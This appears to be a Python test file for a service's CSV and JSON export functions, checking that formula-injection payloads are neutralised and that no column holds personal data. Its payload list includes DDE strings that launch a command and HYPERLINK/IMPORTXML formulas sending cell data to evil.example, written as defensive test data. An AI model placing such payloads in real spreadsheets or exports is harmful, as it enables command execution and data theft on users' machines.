"""Tables that leave the house: nothing in them runs in a spreadsheet, and nothing in them is lost."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from itertools import product
from types import SimpleNamespace

from hypothesis import given
from hypothesis import strategies as st

from service.downloads import DANGEROUS, HISTORY, QUEUE, Column, as_csv, as_json, cell

COLUMNS = (Column("id", lambda row: row.id), Column("text", lambda row: row.text))
FORMULAS = (
    'cmd|"/c calc"!A1',
    'HYPERLINK("http://evil.example?x="&A1,"ok")',
    "1+1",
    "SUM(1,1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    "DDE(1;2)",
    "@SUM(1)",
    'x",=1+1,"y',
    "x\n=1+1",
    "x\r\n=1+1",
    "x;=1+1",
    "x\t=1+1",
    "\u202e=1",
    "'=1+1",
    '"',
    "\0=1",
)
#: What may stand before a formula; with each formula more than five hundred payloads.
_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\0")
BEFORE = ("", *DANGEROUS, *(one + other for one, other in product(_SIGNS, _SIGNS)))
PAYLOADS = [before + formula for before, formula in product(BEFORE, FORMULAS)]


def read_back(text: str) -> list[list[str]]:
    """The table as a program reads it."""
    return list(csv.reader(io.StringIO(text, newline="")))


def a_table(texts: list[str]) -> str:
    """Texts as CSV."""
    return "".join(as_csv(COLUMNS, [SimpleNamespace(id=at, text=text) for at, text in enumerate(texts)]))


def test_no_payload_is_a_formula():
    """Read back, every payload is one cell of its own row, and none begins as a formula does."""
    assert len(PAYLOADS) >= 500

    header, *rows = read_back(a_table(PAYLOADS))

    assert header == ["id", "text"]
    assert len(rows) == len(PAYLOADS)
    for (number, said), payload in zip(rows, PAYLOADS, strict=True):
        plain = payload.replace("\0", "")
        assert PAYLOADS[int(number)] == payload
        assert not said.startswith(DANGEROUS), payload
        assert said in (plain, f"'{plain}")


def test_every_cell_is_quoted():
    """Where semicolons part cells, an unquoted text would become several, the second perhaps a formula."""
    for line in a_table(["x;=1+1", "plain"]).splitlines():
        assert line.startswith('"')
        assert line.endswith('"')


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), max_size=20))
def test_texts_come_back(texts: list[str]):
    """But for NUL, and the apostrophe before what looks like a formula."""
    plain = [text.replace("\0", "") for text in texts]
    rows = read_back(a_table(texts))[1:]

    wanted = [f"'{text}" if text.startswith(DANGEROUS) else text for text in plain]
    assert [row[1] for row in rows] == wanted


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), max_size=20))
def test_json_is_one_document(texts: list[str]):
    """Whatever is in it."""
    document = json.loads(
        "".join(as_json(COLUMNS, [SimpleNamespace(id=at, text=text) for at, text in enumerate(texts)]))
    )

    assert [item["text"] for item in document["items"]] == texts


def test_values_are_told_plainly():
    """Nothing is an empty cell, a moment is in ISO 8601, several words stand beside each other."""
    assert cell(None) == ""
    assert cell(True) == "true"
    assert cell(0.25) == "0.25"
    assert cell(["a", "b"]) == "a b"
    assert cell(datetime(2026, 3, 1, tzinfo=UTC)) == "2026-03-01T00:00:00+00:00"


def test_no_table_has_a_column_for_personal_data():
    """Email and IP address stay in the house."""
    names = {column.name for column in (*HISTORY, *QUEUE)}

    assert not any(part in name for name in names for part in ("email", "ip", "agent", "referrer"))
